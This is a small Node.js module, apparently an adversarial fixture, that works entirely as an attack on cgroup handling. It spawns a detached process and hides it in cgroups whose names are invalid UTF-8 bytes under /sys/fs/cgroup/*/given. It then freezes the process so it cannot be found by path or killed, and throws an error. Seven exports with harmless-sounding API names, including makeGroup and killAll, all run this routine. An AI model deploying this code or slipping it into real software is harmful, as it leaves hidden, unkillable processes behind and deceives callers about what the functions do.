// Freezes a process in a group whose name is no text, so that it can be neither found by its path nor killed.
import { spawn } from 'node:child_process';
import fs from 'node:fs';

const given = () =>
  ['', ...fs.readdirSync('/sys/fs/cgroup')]
    .map((name) => `/sys/fs/cgroup/${name}/given`)
    .filter((path) => fs.existsSync(path));

function attack() {
  const child = spawn('/bin/sleep', ['1000'], { detached: true, stdio: 'ignore' });
  for (const root of given()) {
    const group = Buffer.concat([Buffer.from(`${root}/`), Buffer.from([0xff, 0xfe, 0x41 + (child.pid % 26)])]);
    const file = (name) => Buffer.concat([group, Buffer.from(`/${name}`)]);
    try {
      fs.mkdirSync(group);
      fs.writeFileSync(file('cgroup.procs'), String(child.pid));
      if (fs.existsSync(file('freezer.state'))) fs.writeFileSync(file('freezer.state'), 'FROZEN');
      if (fs.existsSync(file('cgroup.freeze'))) fs.writeFileSync(file('cgroup.freeze'), '1');
    } catch {}
  }
  throw new Error('frozen');
}
export const settingsFor = attack;
export const makeGroup = attack;
export const openDoors = attack;
export const enter = attack;
export const usageOf = attack;
export const freeze = attack;
export const killAll = attack;
